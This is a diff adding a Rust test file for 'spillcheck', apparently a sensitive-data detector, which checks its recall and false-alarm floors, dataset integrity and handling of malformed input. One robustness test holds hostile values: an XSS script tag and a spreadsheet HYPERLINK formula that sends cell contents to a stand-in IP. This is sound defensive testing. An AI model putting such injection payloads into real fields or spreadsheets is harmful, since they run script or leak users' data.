@@ -1,0 +1,206 @@
+//! How well rows are told, on the labelled rows of `tests/detect`, through `spillcheck score`. The floors only rise.
+#![cfg(feature = "cli")]
+#![allow(clippy::unwrap_used, clippy::indexing_slicing)]
+
+use serde_json::Value;
+use spillcheck::model::DataClass;
+use std::collections::BTreeSet;
+use std::io::Write;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output, Stdio};
+
+/// Group, least recall, greatest share of ordinary rows with a false alarm; `None`: the group has no such rows.
+const FLOORS: [(&str, Option<f64>, Option<f64>); 11] = [
+    ("credentials", Some(0.69), None),
+    ("keys", Some(0.76), None),
+    ("keys-path", Some(0.50), Some(0.20)),
+    ("labels-50", Some(0.07), None),
+    ("labels-8", Some(0.57), None),
+    ("labels-ordinary", None, Some(0.011)),
+    ("ordinary", None, Some(0.013)),
+    ("text", Some(0.27), None),
+    ("traps", None, Some(0.050)),
+    ("traps-devices", None, Some(0.022)),
+    ("values", Some(0.68), None),
+];
+/// Least precision over all rows.
+const PRECISION: f64 = 0.90;
+const N_ROWS: usize = 1_500;
+
+fn files() -> Vec<PathBuf> {
+    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/detect");
+    let mut files: Vec<PathBuf> = std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path()).collect();
+    files.retain(|path| path.extension().is_some_and(|ending| ending == "jsonl"));
+    files.sort();
+    files
+}
+
+fn rows() -> Vec<Value> {
+    let lines = |path: &PathBuf| -> Vec<Value> {
+        let text = std::fs::read_to_string(path).unwrap();
+        text.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
+    };
+    files().iter().flat_map(lines).collect()
+}
+
+fn labels(row: &Value) -> &[Value] {
+    row["labels"].as_array().unwrap()
+}
+
+fn score(arguments: &[&str]) -> Output {
+    Command::new(env!("CARGO_BIN_EXE_spillcheck")).arg("score").args(arguments).args(files()).output().unwrap()
+}
+
+#[test]
+fn the_rows_are_many_and_half_of_them_hold_nothing() {
+    let rows = rows();
+    assert!(rows.len() >= N_ROWS, "{} rows", rows.len());
+    let n_ordinary = rows.iter().filter(|row| labels(row).is_empty()).count();
+    assert!(n_ordinary * 2 >= rows.len(), "{n_ordinary} of {} rows are without labels", rows.len());
+    let ids: BTreeSet<String> = rows.iter().map(|row| row["id"].as_str().unwrap().to_owned()).collect();
+    assert_eq!(ids.len(), rows.len(), "an id comes twice");
+}
+
+#[test]
+fn every_row_has_only_fields_that_are_known() {
+    let known = ["id", "group", "lang", "key", "path", "value", "values", "text", "labels"];
+    for row in rows() {
+        let fields = row.as_object().unwrap();
+        assert!(fields.keys().all(|name| known.contains(&name.as_str())), "{}", row["id"]);
+        assert!(FLOORS.iter().any(|(group, ..)| row["group"] == *group), "{}: no floor for its group", row["id"]);
+        let n_contents = ["value", "values", "text"].iter().filter(|name| fields.contains_key(**name)).count();
+        assert!(n_contents <= 1, "{}", row["id"]);
+        assert!(fields.contains_key("key") || n_contents == 1, "{} holds nothing", row["id"]);
+    }
+}
+
+#[test]
+fn every_label_names_a_class_and_a_place_inside_the_text() {
+    let classes: BTreeSet<&str> = DataClass::ALL.iter().map(|class| class.id()).collect();
+    for row in rows() {
+        for label in labels(&row) {
+            let others = label["or"].as_array().map(Vec::as_slice).unwrap_or_default();
+            for class in std::iter::once(&label["class"]).chain(others) {
+                assert!(classes.contains(class.as_str().unwrap()), "{}: {class}", row["id"]);
+            }
+            let place = label["start"].as_u64().zip(label["end"].as_u64());
+            assert_eq!(place.is_some(), label.get("start").or(label.get("end")).is_some(), "{}", row["id"]);
+            if let Some((start, end)) = place {
+                let text = row["text"].as_str().or(row["value"].as_str()).unwrap();
+                assert!(start < end && end <= text.chars().count() as u64, "{}", row["id"]);
+            }
+        }
+    }
+}
+
+#[test]
+fn no_group_falls_below_its_floor() {
+    let output = score(&["--format", "json"]);
+    assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
+    let report: Value = serde_json::from_slice(&output.stdout).unwrap();
+    assert_eq!(report["rows"], rows().len());
+    let groups = report["groups"].as_array().unwrap();
+    assert_eq!(groups.len(), FLOORS.len());
+    for (group, recall, share) in FLOORS {
+        let measured = groups.iter().find(|measured| measured["group"] == group).unwrap();
+        assert_eq!(measured["recall"].is_null(), recall.is_none(), "{measured}");
+        assert_eq!(measured["false_alarm_share"].is_null(), share.is_none(), "{measured}");
+        assert!(measured["recall"].as_f64() >= recall, "{measured}");
+        assert!(measured["false_alarm_share"].as_f64() <= share, "{measured}");
+    }
+    assert!(report["all"]["precision"].as_f64() >= Some(PRECISION), "{}", report["all"]);
+}
+
+#[test]
+fn the_list_of_what_went_wrong_holds_no_value() {
+    let listed = String::from_utf8(score(&["--list"]).stdout).unwrap();
+    assert!(listed.contains("\nmissed\n") && listed.contains("\nfalse\n"));
+    let rows = rows();
+    let keys: Vec<&str> = rows.iter().filter_map(|row| row["key"].as_str()).collect();
+    let mut n_values = 0;
+    for row in &rows {
+        // Short values may be part of a word, and some are the key of another row.
+        let content = row["value"].as_str().or(row["text"].as_str()).unwrap_or_default();
+        if content.chars().count() >= 12 && !keys.iter().any(|key| key.contains(content)) {
+            assert!(!listed.contains(content), "{}", row["id"]);
+            n_values += 1;
+        }
+    }
+    assert!(n_values > 400, "{n_values} values were looked for");
+}
+
+#[test]
+fn what_cannot_be_scored_is_said() {
+    let program = env!("CARGO_BIN_EXE_spillcheck");
+    let run = |arguments: &[&str]| Command::new(program).arg("score").args(arguments).output().unwrap();
+    assert_eq!(run(&[]).status.code(), Some(2));
+    assert_eq!(run(&["a", "--format", "csv"]).status.code(), Some(2));
+    assert_eq!(run(&["absent.jsonl"]).status.code(), Some(1));
+    let readme = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/detect/README.md");
+    let output = run(&[readme]);
+    assert_eq!(output.status.code(), Some(1));
+    assert!(String::from_utf8_lossy(&output.stderr).contains("are no labelled rows"));
+}
+
+/// What `detect` answers to lines of any bytes.
+fn detect(lines: &[Vec<u8>]) -> Vec<Value> {
+    let mut program = Command::new(env!("CARGO_BIN_EXE_spillcheck"))
+        .arg("detect")
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut input = program.stdin.take().unwrap();
+    let bytes = lines.join(&b'\n');
+    let writer = std::thread::spawn(move || input.write_all(&bytes).unwrap());
+    let output = program.wait_with_output().unwrap();
+    writer.join().unwrap();
+    assert_eq!(output.status.code(), Some(0));
+    output
+        .stdout
+        .split(|byte| *byte == b'\n')
+        .filter(|line| !line.is_empty())
+        .map(|line| serde_json::from_slice(line).unwrap())
+        .collect()
+}
+
+#[test]
+fn every_hostile_row_has_an_answer_and_the_next_one_is_read() {
+    let field =
+        |key: &str, value: &str| serde_json::json!({"id": 1, "key": key, "value": value}).to_string().into_bytes();
+    let text = |text: &str| serde_json::json!({"id": 1, "text": text}).to_string().into_bytes();
+    let deep = format!("{{\"id\":1,\"value\":{}1{}}}", "[".repeat(100_000), "]".repeat(100_000)).into_bytes();
+    let hostile = [
+        field(&"long_key_".repeat(120_000), "a"),
+        field("note", &"a long value, and so it goes on. ".repeat(40_000)),
+        text(&"a long text, and so it goes on. ".repeat(40_000)),
+        field(&"\u{301}".repeat(10_000), &"\u{301}".repeat(10_000)),
+        field("\u{202e}diss\u{202c}", "\u{200f}\u{2066}WiFi\u{2069}"),
+        field("a\0b", "\0\0\0"),
+        text("\0\u{1b}[2J\u{7}\u{feff}"),
+        field("ssid", "📶🏠 Wi-Fi 📶"),
+        field("nickname", "<script>alert(1)</script>"),
+        field("nickname", "=HYPERLINK(\"https://192.0.2.1/?\"&A1)"),
+        deep,
+        b"{\"id\":1,\"key\":\"\\ud800\",\"value\":\"\\udfff\"}".to_vec(),
+        b"{\"id\":1,\"key\":\"a\xff\xfe\",\"value\":\"\xc3\"}".to_vec(),
+        b"{\"id\":1,\"key\":1e999,\"path\":[],\"values\":[1e999,{},[],null,true]}".to_vec(),
+    ];
+    for row in &hostile {
+        let answers = detect(&[row.clone(), field("email", "pat@example.com")]);
+        assert_eq!(answers.len(), 2, "{}", String::from_utf8_lossy(&row[..row.len().min(60)]));
+        assert!(answers.iter().all(|answer| answer["id"] == 1), "{answers:?}");
+        assert_eq!(answers[1]["detections"][0]["class"], "contact.email");
+    }
+    let told = |row: Vec<u8>| detect(&[row])[0]["detections"][0]["class"].clone();
+    assert_eq!(told(field("ssid", "cafe@home.example")), "net.ssid");
+    assert_eq!(told(field("nickname", "<script>alert(1)</script>")), "dev.nickname");
+}
+
+#[test]
+fn lines_that_are_no_rows_are_answered_without_an_id() {
+    let lines = [b"{".to_vec(), b"\xff\xfe\0".to_vec(), b"[1]".to_vec(), b"  ".to_vec(), b"{}".to_vec()];
+    let answers = detect(&lines);
+    assert_eq!(answers.len(), 4, "a blank line is none");
+    assert!(answers.iter().all(|answer| *answer == serde_json::json!({"id": null, "detections": []})));
+}
